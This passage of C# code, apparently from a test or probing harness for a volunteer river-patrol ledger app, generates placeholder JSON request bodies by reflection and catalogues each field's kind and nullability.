        {
            case FieldKind.Array:
                var element = ElementType(type)!;
                var item = element == typeof(Guid)
                    ? JsonValue.Create(name == "communityIds" ? QunTuan.Ledger.Shared.DeterministicId.ForCommunity("lanhua")
                        : OtherVolunteer)
                    : SampleOf(element, name, depth + 1);
                return new JsonArray(item);
            case FieldKind.Object when depth < 5:
                var obj = new JsonObject();
                foreach (var p in Constructor(type).GetParameters())
                    obj[Json(p.Name!)] = SampleOf(p.ParameterType, Json(p.Name!), depth + 1);
                return obj;
            case FieldKind.Object:
                return null;
        }
        object value = kind switch
        {
            FieldKind.Guid => name switch
            {
                "volunteerId" => Volunteer,
                "segmentId" => RiverSegment,
                "teamId" => PatrolTeam,
                _ => Unused
            },
            FieldKind.FreeText => "巡查记录",
            FieldKind.FormattedText => name switch
            {
                "community" or "communityId" => "lanhua",
                "activityCode" => "CB01",
                "categoryCode" => "CB",
                "username" => "probe-user",
                "password" => "Lanhua-Probe-2026",
                "photoRef" => "IMG_20261122_0901.jpg",
                _ => "CB11"
            },
            FieldKind.Date => new LocalDate(2026, 11, 22),
            FieldKind.Time => name == "end" ? new LocalTime(11, 30) : new LocalTime(9, 0),
            FieldKind.Duration => Duration.FromDays(7),
            FieldKind.Instant => name == "plannedEnd" ? Instant.FromUtc(2026, 11, 23, 5, 30) : Instant.FromUtc(2026, 11, 23, 2, 30),
            FieldKind.Enum => Enum.GetValues(type).GetValue(0)!,
            FieldKind.Boolean => false,
            _ => Convert.ChangeType(name switch { "points" => 10, "count" or "occasions" => 1, "permanentResidents" => 5000, _ => 60 },
                type)
        };
        return JsonSerializer.SerializeToNode(value, type, AppJson);
    }

    private static void Walk(Type type, List<object> path, JsonNode? sample, List<BodyField> into)
    {
        var nullability = new NullabilityInfoContext();
        foreach (var p in Constructor(type).GetParameters())
        {
            var name = Json(p.Name!);
            var here = new List<object>(path) { name };
            var value = sample?[name];
            var nullable = Nullable.GetUnderlyingType(p.ParameterType) is not null ||
                           (!p.ParameterType.IsValueType && nullability.Create(p).WriteState == NullabilityState.Nullable);
            var kind = KindOf(name, p.ParameterType);
            into.Add(new BodyField(here, kind, nullable));
            var declared = Nullable.GetUnderlyingType(p.ParameterType) ?? p.ParameterType;
            if (kind == FieldKind.Object && value is JsonObject) Walk(declared, here, value, into);
            if (kind == FieldKind.Array && value is JsonArray { Count: > 0 } items)
            {
                var element = ElementType(declared)!;
                var at = new List<object>(here) { 0 };
                var elementKind = KindOf(name, element);
                if (elementKind == FieldKind.Object) Walk(element, at, items[0], into);
                else into.Add(new BodyField(at, elementKind, false));
            }
        }
    }

    /// <summary>Fields of a body known only from an example (a route whose endpoint reflection cannot find).</summary>
    private static void WalkJson(JsonObject sample, List<object> path, List<BodyField> into)
    {
        foreach (var (name, value) in sample)
        {
            var here = new List<object>(path) { name };
            var kind = value switch
            {
                JsonObject => FieldKind.Object,
                JsonArray => FieldKind.Array,
                JsonValue v when v.TryGetValue<bool>(out _) => FieldKind.Boolean,
                JsonValue v when v.TryGetValue<long>(out _) => FieldKind.Integer,
                JsonValue v when v.TryGetValue<string>(out var s) && Guid.TryParse(s, out _) => FieldKind.Guid,
                JsonValue v when v.TryGetValue<string>(out var s) && DateOnly.TryParse(s, out _) => FieldKind.Date,
                _ => FieldKind.FreeText // the safe guess: an injection string alone is valid in free text
            };
            into.Add(new BodyField(here, kind, value is null));
            if (value is JsonObject inner) WalkJson(inner, here, into);
        }
    }

    private static void Merge(JsonObject target, JsonObject overrides)
    {
        foreach (var (name, value) in overrides.ToList())
            if (value is JsonObject inner && target[name] is JsonObject existing) Merge(existing, inner);
            else target[name] = value?.DeepClone();
    }
}
